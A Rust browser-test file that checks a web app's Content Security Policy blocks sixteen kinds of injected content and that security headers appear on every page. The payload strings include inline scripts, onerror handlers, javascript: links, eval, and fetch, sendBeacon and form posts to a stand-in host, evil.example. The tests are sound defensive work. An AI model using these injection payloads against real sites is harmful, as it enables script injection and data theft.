//! The content security policy, as the browser enforces it: whatever gets into a page does nothing.

use super::{Claims, Row, once, site::Site};
use crate::tour::Tour;
use serde_json::{Value, json};

pub const STORIES: &[Row] = &[
    once("security::the policy stops what gets into a page", policy),
    once("security::the policy is on every page", headers),
];

/// What gets in, and what must not come of it: a script that puts it there, and one that says whether it worked.
const INTRUDERS: [(&str, &str, &str); 16] = [
    (
        "an inline script",
        "const s = document.createElement('script'); try { s.append('globalThis.ran = 1'); document.body.append(s) } catch { }",
        "return globalThis.ran === 1",
    ),
    (
        "an inline handler",
        "const i = document.createElement('img'); i.setAttribute('onerror', 'globalThis.ran = 1'); i.src = '/nothing.png'; document.body.append(i)",
        "return globalThis.ran === 1",
    ),
    (
        "a link with a script",
        "const a = document.createElement('a'); a.setAttribute('href', 'javascript:globalThis.ran=1'); document.body.append(a); a.click()",
        "return globalThis.ran === 1",
    ),
    ("eval in a timer", "try { setTimeout('globalThis.ran = 1') } catch { }", "return globalThis.ran === 1"),
    (
        "a function made of text",
        "setTimeout(() => { try { Function('globalThis.ran = 1')() } catch { } })",
        "return globalThis.ran === 1",
    ),
    (
        "a script of another host",
        "const s = document.createElement('script'); try { s.src = SITE + '/stranger.js'; document.body.append(s) } catch { }",
        "return globalThis.strangerWasHere === true",
    ),
    (
        "an inline style",
        "const s = document.createElement('style'); s.append('h1 { font-size: 99px }'); document.head.append(s)",
        "return getComputedStyle(document.querySelector('h1')).fontSize === '99px'",
    ),
    (
        "a style attribute",
        "document.querySelector('h1').setAttribute('style', 'font-size: 99px')",
        "return getComputedStyle(document.querySelector('h1')).fontSize === '99px'",
    ),
    (
        "a style of another host",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = SITE + '/style.css'; document.head.append(l)",
        "return getComputedStyle(document.querySelector('h1')).fontSize === '99px'",
    ),
    (
        "a base of another host",
        "const b = document.createElement('base'); b.href = SITE; document.head.prepend(b)",
        "return !document.baseURI.startsWith(location.origin)",
    ),
    (
        "a form to another host",
        "const f = document.createElement('form'); f.method = 'post'; f.action = SITE + '/form'; document.body.append(f); f.submit()",
        "return !location.href.includes('/myaccount')",
    ),
    (
        "a picture of another host",
        "const i = new Image(); i.onload = () => globalThis.ran = 1; i.src = SITE + '/picture.png'; document.body.append(i)",
        "return globalThis.ran === 1",
    ),
    (
        "a question to another host",
        "fetch(SITE + '/fetch').then(() => globalThis.ran = 1, () => {})",
        "return globalThis.ran === 1",
    ),
    (
        "a beacon to another host",
        "globalThis.sent = navigator.sendBeacon(SITE + '/beacon', 'x')",
        "return false",
    ),
    (
        "a frame of another host",
        "const f = document.createElement('iframe'); f.src = SITE + '/frame'; document.body.append(f)",
        "return false",
    ),
    (
        "markup made of text",
        "try { document.querySelector('h1').innerHTML = '<img src=x>'; globalThis.ran = 1 } catch { }",
        "return globalThis.ran === 1",
    ),
];

fn policy(tour: &Tour<'_>) {
    let claims = Claims::default();
    let site = Site::open(true);
    let elsewhere = format!("https://evil.example:{}", site.port);
    tour.go_as("/myaccount", tour.guest());
    for (name, put, worked) in INTRUDERS {
        tour.go("/myaccount");
        let listen = "globalThis.violated = []; \
            document.addEventListener('securitypolicyviolation', (event) => globalThis.violated.push(event.effectiveDirective))";
        tour.chrome.run(listen, &[]);
        // By the page's own means, and not with the rights of a debugger.
        let script =
            format!("const SITE = arguments[0]; const done = arguments[1]; {put}; setTimeout(done, 250)");
        let _ = tour.chrome.try_run_async(&script, &[json!(elsewhere)]);
        let violated = tour.chrome.run("return globalThis.violated ?? []", &[]);
        claims.check(format!("{name} does nothing"), tour.chrome.run(worked, &[]) == false);
        claims.check(format!("{name} is reported"), violated.as_array().is_some_and(|all| !all.is_empty()));
    }
    let asked: Vec<String> = site.heard().into_iter().map(|one| one.target).collect();
    claims.check(format!("nothing reached the other host: {asked:?}"), asked.is_empty());
    tour.chrome.log();
    claims.hold();
}

fn headers(tour: &Tour<'_>) {
    let claims = Claims::default();
    let leave = format!("/myaccount/organizations/leave/{}", tour.named("TENANT_ID"));
    let fetch = "const [path, done] = arguments; fetch(path, { redirect: 'manual', headers: { accept: 'text/html' } }).then(async (answer) => \
        done([answer.status, Object.fromEntries(answer.headers)]))";
    let expected = [
        ("content-security-policy", "default-src 'none'"),
        ("x-frame-options", "DENY"),
        ("x-content-type-options", "nosniff"),
        ("referrer-policy", "no-referrer"),
        ("cross-origin-opener-policy", "same-origin"),
        ("cross-origin-resource-policy", "same-origin"),
        ("cache-control", "no-store"),
        ("strict-transport-security", "max-age=31536000"),
    ];
    let mut seen: Vec<(String, Value)> = Vec::new();
    let look = |paths: &[&str], seen: &mut Vec<(String, Value)>| {
        for path in paths {
            seen.push(((*path).to_owned(), tour.chrome.run_async(fetch, &[json!(path)])));
        }
    };
    tour.go("/signin");
    look(&["/signin", "/nowhere"], &mut seen);
    tour.go_as("/myaccount", tour.guest());
    look(
        &["/myaccount", "/myaccount/organizations", &leave, "/myaccount/sessions", "/devicelogin", "/admin"],
        &mut seen,
    );
    tour.chrome.forget();
    tour.go_as("/admin", tour.admin());
    let pages = [
        "/admin",
        "/admin/external-collaboration",
        "/admin/deleted-users",
        "/admin/properties",
        "/admin/sign-in",
    ];
    look(&pages, &mut seen);
    for (name, value) in expected {
        let lacking: Vec<&String> = seen
            .iter()
            .filter(|(_, answer)| !answer[1][name].as_str().unwrap_or_default().starts_with(value))
            .map(|(path, _)| path)
            .collect();
        claims.check(
            format!("{name}: {value} on {} pages, but not on {lacking:?}", seen.len()),
            lacking.is_empty(),
        );
    }
    for word in ["unsafe-inline", "unsafe-eval", "http:", "*", "data:"] {
        let loose = seen.iter().any(|(_, answer)| {
            answer[1]["content-security-policy"].as_str().is_some_and(|text| text.contains(word))
        });
        claims.check(format!("no policy has {word}"), !loose);
    }
    tour.chrome.log();
    claims.hold();
}
